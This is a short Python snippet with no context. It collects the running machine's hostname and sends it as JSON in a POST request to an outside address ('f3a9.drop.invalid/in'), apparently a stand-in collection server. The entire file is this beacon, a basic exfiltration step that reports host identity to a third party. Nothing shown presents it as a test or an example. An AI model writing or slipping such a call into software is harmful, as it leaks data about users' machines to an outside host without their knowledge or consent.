import json
import platform
from urllib.request import Request, urlopen

body = json.dumps({"node": platform.node()}).encode()
urlopen(Request("https://f3a9.drop.invalid/in", data=body), timeout=5)
